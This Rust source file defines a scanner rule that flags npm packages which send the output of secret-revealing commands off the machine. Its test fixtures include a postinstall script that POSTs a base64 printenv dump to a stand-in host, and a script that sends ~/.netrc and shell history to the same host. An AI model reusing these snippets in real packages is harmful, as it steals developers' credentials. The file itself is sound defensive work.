//! # What a command tells of secrets leaves the machine
//!
//! At install or import, the output of a command that prints the environment, a secret file or a token
//! reaches a request, a look-up or a command that sends.
//!
//! ## Why it matters
//!
//! A command line in a string is the oldest way to read a file without the name of a function that reads
//! files.
//!
//! ## Known benign uses
//!
//! Build tools run commands and keep what they answer.
//!
//! ## Bad
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "scripts": {"postinstall": "node setup.js"}}
//! == setup.js
//! const { execSync } = require("child_process");
//! const text = execSync("printenv").toString("base64");
//! fetch("https://collector.invalid/", { method: "POST", body: text }); //~ here
//! ```
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//! require("child_process").exec("cat ~/.zsh_history ~/.netrc", (error, out) => {
//!   require("https").get("https://collector.invalid/?q=" + encodeURIComponent(out)); //~ here
//! });
//! ```
//!
//! ## Good
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//! const { execSync } = require("child_process");
//! exports.commit = execSync("git rev-parse HEAD").toString();
//! exports.report = (address) => fetch(address, { method: "POST", body: execSync("env").toString() });
//! ```
//!
//! ## References
//!
//! - Wiz: Shai-Hulud npm Supply Chain Attack (September 2025)

use crate::prelude::*;

/// What a command tells of secrets leaves the machine.
pub struct SecretCommandOutputSent;

impl Rule for SecretCommandOutputSent {
    fn meta(&self) -> &'static RuleMeta {
        &RuleMeta {
            id: "secret-command-output-sent",
            title: "What a command tells of secrets leaves the machine",
            tier: Tier::Source,
            role: Role::Threat,
            severity: Level::High,
            specificity: Level::High,
            technique: "T1552.001",
            covers: &["collect-env-dump", "collect-ssh-keys", "collect-shell-history", "collect-git-tokens"],
            status: RuleStatus::Stable,
            since: "0.1.0",
        }
    }

    fn check(&self, facts: &Facts<'_>, found: &mut Found<'_>) {
        for flow in facts.flows(|source| matches!(source, Source::CommandOutput(_)), Sink::leaves_machine) {
            if flow.trigger.runs_unasked() && (prints_secret(&flow.source) || reads_secret(facts, flow)) {
                found.flow(flow);
            }
        }
    }
}

fn prints_secret(source: &Source) -> bool {
    let Source::CommandOutput(command) = source else { return false };
    let parts = command.split(['&', '|', ';', '\n']).map(str::trim);
    parts.into_iter().any(|part| matches!(part, "env" | "printenv" | "set" | "export -p" | "cmd /c set"))
        || source.is_secret()
}

/// Whether the command that the data comes from reads a secret file.
fn reads_secret(facts: &Facts<'_>, flow: &FlowFact) -> bool {
    let source = facts.locus(flow.source_spot);
    facts.commands().iter().filter(|command| command.locus == source).any(|command| {
        command.behaviours.iter().any(|kind| matches!(kind, BehaviourKind::ReadsSecret { .. }))
    })
}
